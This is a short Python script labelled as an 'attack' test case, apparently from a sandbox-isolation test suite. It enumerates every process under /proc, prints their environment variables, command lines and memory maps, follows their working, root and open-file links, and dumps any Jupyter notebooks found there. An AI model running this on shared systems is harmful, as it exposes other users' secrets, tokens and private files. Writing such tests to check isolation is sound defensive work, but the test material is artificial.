# attack: environments, command lines, folders and open files of all processes are printed
# harmless: yes
import glob
import os

for process in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline", "maps"):
        try:
            print(process, open(f"{process}/{name}", "rb").read()[:2000])
        except OSError:
            pass
    for link in [f"{process}/cwd", f"{process}/root", *glob.glob(f"{process}/fd/*")]:
        try:
            print(link, os.readlink(link))
            if os.path.isdir(link):
                for path in glob.glob(f"{link}/**/*.ipynb", recursive=True):
                    print(path, open(path).read())
        except OSError:
            pass
